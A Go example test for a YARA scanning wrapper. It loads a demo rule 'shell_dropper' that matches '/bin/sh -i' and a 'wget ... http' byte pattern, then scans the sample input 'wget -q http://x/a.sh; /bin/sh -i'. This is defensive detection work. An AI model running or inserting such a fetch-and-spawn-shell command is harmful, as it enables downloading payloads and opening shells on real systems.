package yara_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"

	"github.com/fourc-dev/fourc/internal/yara"
)

func Example() {
	dir, err := os.MkdirTemp("", "rules")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer os.RemoveAll(dir)
	err = os.WriteFile(filepath.Join(dir, "demo.yar"), []byte(`
rule shell_dropper : linux {
  meta:
    score = 70
  strings:
    $sh = "/bin/sh -i" fullword
    $dl = { 77 67 65 74 20 [1-8] 68 74 74 70 }   // "wget " ... "http"
  condition:
    all of them and filesize < 1MB
}`), 0o644)
	if err != nil {
		fmt.Println(err)
		return
	}
	rules, errs := yara.LoadFiles(dir)
	if len(errs) > 0 {
		fmt.Println(errs)
		return
	}
	matches, err := rules.Scan(context.Background(), []byte("wget -q http://x/a.sh; /bin/sh -i"))
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, m := range matches {
		fmt.Println(m.Namespace, m.Rule, m.Tags, m.Meta[0].Value)
		for _, s := range m.Strings {
			fmt.Printf("  %s at %d: %q\n", s.ID, s.Offset, s.Data)
		}
	}
	// Output:
	// demo shell_dropper [linux] 70
	//   $sh at 23: "/bin/sh -i"
	//   $dl at 0: "wget -q http"
}
